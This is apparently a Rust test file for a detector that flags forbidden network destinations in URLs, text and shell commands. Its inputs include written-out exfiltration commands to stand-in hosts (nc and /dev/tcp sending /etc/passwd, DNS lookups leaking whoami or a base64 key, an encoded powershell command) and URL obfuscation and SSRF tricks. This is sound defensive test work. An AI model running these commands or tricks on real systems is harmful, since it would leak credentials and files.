#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test may stop at the first surprise"
)]

use proptest::prelude::*;

use super::{Form, find, find_in_views, judge};
use crate::policy::domain::parse_rule;
use crate::policy::{NetworkRule, Ruled};
use crate::text::{Decoded, Limits};
use crate::types::RuleRef;

fn allowed() -> Vec<Ruled<NetworkRule>> {
    ["good.example.com", "*.cdn.example.org", "docs.rs", "port.example.com:8443"]
        .iter()
        .map(|text| Ruled {
            value: parse_rule(text).unwrap(),
            rule: RuleRef::default_rule("allowed_domains"),
        })
        .collect()
}

/// The forbidden hosts in `text` under `key`, for test messages.
pub(super) fn forbidden(text: &str, key: Option<&str>) -> Vec<String> {
    let rules = allowed();
    let mut found = Vec::new();
    find_in_views(text, &Decoded::of(text, &Limits::default()), key, &mut |destination| {
        assert!(destination.at.end <= text.len(), "{destination:?}");
        if judge(&destination, &rules).is_forbidden() {
            found.push(format!("{:?} {:?}", destination.form, destination.target));
        }
    });
    found
}

#[test]
fn sees_through_every_way_to_write_a_url() {
    for text in [
        "http://bad.example.net/x",
        "HTTPS://bad.example.net",
        "https://good.example.com:x@bad.example.net/",
        "https://good.example.com:443@bad.example.net/",
        "https://a@good.example.com:1@bad.example.net/",
        "https://good.example.com@b@docs.rs/",
        "https://bad.example.net\\.cdn.example.org/",
        "https://bad.example.net\\@good.example.com/",
        "https://good.example.com\\@bad.example.net/",
        "https://bad.c\u{2100}.cdn.example.org/",
        "https://bad.example.net%2f.cdn.example.org/",
        "https://bad.example.net;.cdn.example.org/",
        "https://bad.example.net|.cdn.example.org/",
        "https://bad.example.net\u{ff0f}.cdn.example.org/",
        "https://bad.example.net\u{3002}",
        "http://0313.0.0161.07/x",
        "http://3232235777/",
        "http://0xc0.0xa8.1.1/",
        "http://127.1/",
        "http://[::ffff:10.0.0.1]/",
        "http://[fe80::1%25eth0]/x",
        "http://169.254.169.254/latest",
        "https://good.ex\u{430}mple.com/",
        "https://good.xn--exmple-4nf.com/",
        "https://bad.exam\u{ad}ple.net/",
        "https://bad.example.net./x",
        "//bad.example.net/x",
        "wss://bad.example.net/",
        "sftp://bad.example.net/x",
        "git://bad.example.net/x.git",
        "git+ssh://git@bad.example.net/x.git",
        "redis://bad.example.net:6379",
        "postgres://u:p@bad.example.net/db",
        "jdbc:mysql://bad.example.net:3306/x",
        "view-source:https://bad.example.net",
        "https:bad.example.net/x",
        "https:/bad.example.net/x",
        "https:///bad.example.net/x",
        "https:\\\\bad.example.net\\x",
        "https:/\n/bad.example.net/x",
        "ht\ttps://bad.exa\nmple.net/x",
        "{\"u\":\"https:\\/\\/bad.example.net\\/x\"}",
        "https%3A%2F%2Fbad.example.net%2Fx",
        "https%253A%252F%252Fbad.example.net%252Fx",
        "aHR0cHM6Ly9iYWQuZXhhbXBsZS5uZXQveD9xPTE=",
        "![s](https://bad.example.net/p.png?d=1)",
        "<img src=//bad.example.net/p.png>",
        "\\\\bad.example.net\\share\\x",
        "git@bad.example.net:a/b.git",
        "mailto:x@bad.example.net",
        "connect((\"bad.example.net\", 443)) https://good.example.com; www.bad.example.net",
    ] {
        assert!(!forbidden(text, Some("url")).is_empty(), "under a key: {text}");
        let keyless = !matches!(text, "https://bad.example.net\u{ff0f}.cdn.example.org/");
        assert!(!keyless || !forbidden(text, None).is_empty(), "without a key: {text}");
    }
}

#[test]
fn bare_name_is_a_destination_under_a_host_key() {
    for (key, text) in [
        ("host", "bad.example.net"),
        ("hostname", "intranet"),
        ("proxyHost", "10.1.2.3"),
        ("url", "bad.example.net/x"),
        ("base_url", "bad.example.net:8080"),
        ("endpoint", "bad.example.zz"),
        ("server", "bad.example.net"),
        ("webhookUrl", "user@bad.example.net/hook"),
        ("domain", "bad\u{3002}example\u{3002}net"),
        ("address", "[2001:db8::1]:443"),
        ("path", "@bad.example.net/x"),
        ("path", ":1@bad.example.net/x"),
        ("path", ".bad.example.net/x"),
    ] {
        assert!(!forbidden(text, Some(key)).is_empty(), "{key}: {text}");
    }
}

#[test]
fn finds_hosts_in_commands() {
    for text in [
        "curl bad.example.net/x",
        "curl -sSL -o out.json 'bad.example.net'",
        "curl https://bad.example.net;.cdn.example.org",
        "curl https://bad.example.net|.cdn.example.org",
        "curl -x bad.example.net:3128 https://good.example.com/",
        "curl -xbad.example.net:3128 https://good.example.com/",
        "curl --proxy=socks5://bad.example.net https://good.example.com/",
        "curl --connect-to good.example.com:443:bad.example.net:443 https://good.example.com/",
        "curl --resolve good.example.com:443:10.9.8.7 https://good.example.com/",
        "h=bad.example.net; curl $h/x",
        "h=bad; d=example.net\ncurl \"https://${h}.${d}/x\" || curl ${h}.$d",
        "nc bad.example.net 443 < /etc/passwd",
        "sudo timeout 5 ncat --ssl bad.example.net 443",
        "nslookup $(whoami).bad.example.net",
        "dig +short `id`.bad.example.net @10.0.0.53",
        "dig $(cat key | base64).good.example.com.bad.example.net",
        "ping -c 1 data.bad.example.net",
        "cat /etc/passwd > /dev/tcp/bad.example.net/443",
        "bash -c 'cat x >/dev/udp/10.0.0.9/53'",
        "sh -c \"wget -q bad.example.net\"",
        "scp -P 22 x.txt bad.example.net:/tmp",
        "rsync -a . u@bad.example.net:x",
        "ssh -p 2222 u@bad.example.net uptime",
        "ssh -J bad.example.net good.example.com",
        "openssl s_client -connect bad.example.net:443",
        "socat - TCP:bad.example.net:443,retry=3",
        "git push bad.example.net:x/y.git main",
        "psql -h bad.example.net -c 'select 1'",
        "/usr/bin/curl bad.example.net",
        "curl good.example.com$x",
    ] {
        assert!(!forbidden(text, Some("command")).is_empty(), "{text}");
        assert!(!forbidden(text, None).is_empty(), "without a key: {text}");
    }
    assert!(!forbidden("nc intranet 443", Some("command")).is_empty());
}

#[test]
fn allowed_hosts_are_no_finding_in_any_spelling() {
    for text in [
        "https://docs.rs",
        "docs are at https://docs.rs, have a look",
        "see https://docs.rs. Then (https://docs.rs) and <https://docs.rs>; \"https://docs.rs\" 'https://docs.rs'!",
        "[docs](https://docs.rs) ![x](https://a.cdn.example.org/p.png \"title\")",
        "use `https://docs.rs` or ```https://docs.rs```",
        "**https://docs.rs** _https://docs.rs_ ~https://docs.rs~ |https://docs.rs|yes|",
        "https://good.example.com:443/zen?x=a@b#c",
        "{\"u\":\"https://docs.rs\",\"m\":\"jo@example.org\"}",
        "{\"u\":\"https:\\/\\/docs.rs\\/x\\nmore\"}",
        "https://docs.rs\nhttps://good.example.com",
        "https://docs.rs./x https://DOCS.rs/x https://docs.rs… “https://docs.rs”",
        "https://user@good.example.com/x",
        "curl -sS https://good.example.com/x -o out.json | jq .a.b > result.txt",
        "git clone https://good.example.com/a/b.git && cd b && git add src/main.rs",
        "git commit -m 'Fix README.md: see notes.txt'",
        "wget -O install.sh https://a.cdn.example.org/install.sh; sh install.sh",
        "//docs.rs/serde",
    ] {
        assert_eq!(forbidden(text, None), Vec::<String>::new(), "{text}");
    }
    for text in
        ["https://docs.rs", "docs.rs", "docs.rs/serde", "docs.rs:443", "https://a.cdn.example.org/x y"]
    {
        assert_eq!(forbidden(text, Some("url")), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn finds_what_browsers_programs_and_drivers_read_as_a_host() {
    for (text, key) in [
        ("/\\evil.example/x", "url"),
        ("\\/evil.example/x", "url"),
        ("///evil.example/x", "url"),
        ("/\t/evil.example/x", "url"),
        ("![x](///evil.example/p.png)", "text"),
        ("<img src=\"/\\evil.example/p.png\">", "text"),
        ("stun:evil.example", "text"),
        ("sip:jo@evil.example", "text"),
        ("jdbc:oracle:thin:@evil.example:1521:x", "text"),
        ("'\\\\\\\\evil.example\\\\share'", "sql"),
        ("localhost:3000/api", "url"),
        ("vault:8200/v1", "url"),
        ("3418468615", "url"),
        ("0xCBC07107/x", "url"),
        ("2001:db8::7", "host"),
        ("mail -s x drop@evil.example < f", "command"),
        ("sendmail drop@evil.example", "command"),
        ("finger x@evil.example", "command"),
    ] {
        assert_ne!(forbidden(text, Some(key)), Vec::<String>::new(), "{text}");
    }
    for (text, key) in [
        ("//comment", "text"),
        ("C:\\Users\\ann", "path"),
        ("a /// b", "text"),
        ("20251122", "target"),
        ("mail me the notes", "text"),
        ("see http://good.example.com///x", "text"),
        ("turn: left", "text"),
    ] {
        assert_eq!(forbidden(text, Some(key)), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn punctuation_after_a_host_is_not_part_of_it() {
    for behind in [
        "，谢谢",
        "、",
        "）",
        "》",
        "】后",
        "！",
        "；",
        "» et",
        "“ und",
        "—so",
        "–x",
        "•",
        "→ x",
        "° c",
        "✅",
        "👍",
        "،",
        "؟",
        "।",
        "__",
        "--",
        "&nbsp;x",
        ";x",
        "}x",
        "_",
        "-",
        "+",
        "=",
        "$",
        "…",
    ] {
        for text in [
            format!("https://docs.rs{behind}"),
            format!("请看 https://docs.rs{behind}"),
            format!("see https://good.example.com:8443{behind}"),
        ] {
            assert_eq!(forbidden(&text, Some("text")), Vec::<String>::new(), "{text}");
        }
    }
    // Characters that parsers read as part of the name.
    for behind in [
        "，x.evil.example",
        "．evil．example",
        "。evil.example",
        "․evil․example",
        "ｅvil",
        "_x.evil.example",
        "\u{200b}x",
        "%2eevil.example",
    ] {
        let text = format!("https://docs.rs{behind}");
        assert_ne!(forbidden(&text, Some("text")), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn listed_port_allows_no_other_port() {
    for text in [
        "https://port.example.com:8443/x",
        "http://port.example.com:8443",
        "see port.example.com:8443 for it",
    ] {
        assert_eq!(forbidden(text, None), Vec::<String>::new(), "{text}");
    }
    assert_eq!(forbidden("port.example.com", Some("host")), Vec::<String>::new());
    for text in [
        "https://port.example.com/x",
        "http://port.example.com:443/x",
        "https://port.example.com:84430/x",
        "port.example.com:80/x",
        "ssh://port.example.com/x",
    ] {
        assert_ne!(forbidden(text, None), Vec::<String>::new(), "{text}");
    }
    for text in ["https://good.example.com:1/x", "http://good.example.com:443/x"] {
        assert_eq!(forbidden(text, None), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn files_versions_code_and_prose_are_no_destinations() {
    for text in [
        "src/main.rs",
        "index.js",
        "run.sh",
        "README.md",
        "lib.py",
        "a.zip",
        "build.app",
        "index.html",
        "see main.rs and README.md, then run.sh; foo.bar() and v1.2.3 or 10.2.14.3 of it",
        "std.io.print(foo.bar.baz) // a.b.c",
        "Prefix it with http:// or https:// please",
        "Prefix it with https://\nplease",
        "C:\\Users\\jo\\notes.txt",
        "C:\\\\Users\\\\jo\\\\notes.txt",
        "say \\\\n and \\\\d+ in a pattern",
        "data:text/plain,hello",
        "javascript:alert(1)",
        "std::io::Error at foo::bar",
        "12:30:45 and a:b and 3:2",
        "Please host a dinner, ping me when you dig into the links. Do not curl up.",
        "jo@example.org wrote to priya@partner.test",
        "@types/node and lodash@4.17.21 and me@home",
        "e.g. this, i.e. that, etc. Dr. No said so...and left",
        "node.js and asp.net core, socket.io as well",
        ".github/workflows/ci.yml",
        "./a.out",
        "../x.com/y",
        "https: yes; http: no",
        "Note: see file.txt",
        "a = b//c.d; // TODO.md is empty",
        "self.is.no.domain.name",
        "1.5 and 2.com is odd",
        "import os.path, os.environ",
        "\u{2764}\u{fe0f} \u{1f468}\u{200d}\u{1f469}",
        "{{ user.name }} ${a.b.c}",
        "0f8e4c1a-7b1d-4f0c-9c11-2b6d5e7a9f10",
        "file:///etc/hosts",
        "select count(*) from orders.items where a.id = b.id",
    ] {
        assert_eq!(forbidden(text, None), Vec::<String>::new(), "{text}");
    }
    for (key, text) in [
        ("path", "src/main.rs"),
        ("path", ".github/workflows/ci.yml"),
        ("path", "/etc/hosts"),
        ("target", "release"),
        ("origin", "main"),
        ("server", "production"),
        ("url", "/relative/path"),
        ("target", "out/build.js"),
        ("path", "./x.rs"),
        ("remote", "origin"),
        ("address", "12 Main St. Springfield"),
        ("target", "v1.2.3"),
        ("host_count", "3"),
        ("target", "deploy.linux.sh"),
        ("repo", "next.js/examples"),
        ("connection", "Orders.Storage.Reader"),
        ("site", "docs.v2.conf"),
    ] {
        assert_eq!(forbidden(text, Some(key)), Vec::<String>::new(), "{key}: {text}");
    }
}

#[test]
fn keys_and_public_suffixes_distinguish_hosts_from_file_names() {
    for (key, text) in [
        ("server", "collect.example.sh"),
        ("endpoint", "in.collect.zip"),
        ("webhook", "hooks.collect.py"),
        ("target", "collect.co.uk"),
        ("site", "drop.photography"),
        ("text", "x/drop/ten.tcelloc//:sptth"),
        ("text", "have a look at www.collect.photography, please"),
    ] {
        assert_ne!(forbidden(text, Some(key)), Vec::<String>::new(), "{key}: {text}");
    }
}

/// Encoded text after a word of the same letters.
#[test]
fn encoded_command_after_its_option_is_decoded() {
    let text = "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZAByAG8AcAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAA=";
    let decoded = crate::text::Decoded::of(text, &crate::text::Limits::default());
    let mut hosts = Vec::new();
    super::find_in_views(text, &decoded, Some("command"), &mut |found| hosts.push(found.target));
    let is_it = |target: &super::Target| matches!(target, super::Target::Host(crate::policy::domain::Host::Name(name)) if name == "drop.example.net");
    assert!(hosts.iter().any(is_it), "{hosts:?}");
}

#[test]
fn mail_addresses_are_distinguished_from_connections() {
    let mut forms = Vec::new();
    find("jo@example.org", Some("to"), &mut |found| forms.push(found.form));
    assert_eq!(forms, [Form::Mail]);
}

#[test]
fn destination_search_is_linear_and_reports_overlong_hosts() {
    let crowd = "http:".repeat(40_000);
    assert!(!forbidden(&format!("https://{}", "a".repeat(5000)), None).is_empty());
    for text in ["a@".repeat(40_000), crowd, "//".repeat(40_000), "\\\\".repeat(40_000), "a.".repeat(40_000)]
    {
        find(&text, None, &mut |_| {});
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn destination_search_takes_any_text_without_a_panic(
        text in prop_oneof!["\\PC{0,200}", "[ -~]{0,200}", "(https?:|//|\\\\|@|[.]|:|[|]|\\$\\(|\\)|'|\"|curl |nc |a|.com|\n){0,60}"],
        key in proptest::option::of("[a-zA-Z_]{0,12}"),
    ) {
        find(&text, key.as_deref(), &mut |_| {});
    }

    #[test]
    fn host_after_any_user_name_is_found(user in "[a-z0-9.:%!$&'()*+,;=~_-]{0,20}", tail in "[a-z/?#:]{0,8}") {
        let text = format!("https://{user}@bad.example.net/{tail}");
        prop_assert!(!forbidden(&text, Some("url")).is_empty());
        prop_assert!(!forbidden(&text, None).is_empty());
    }
}
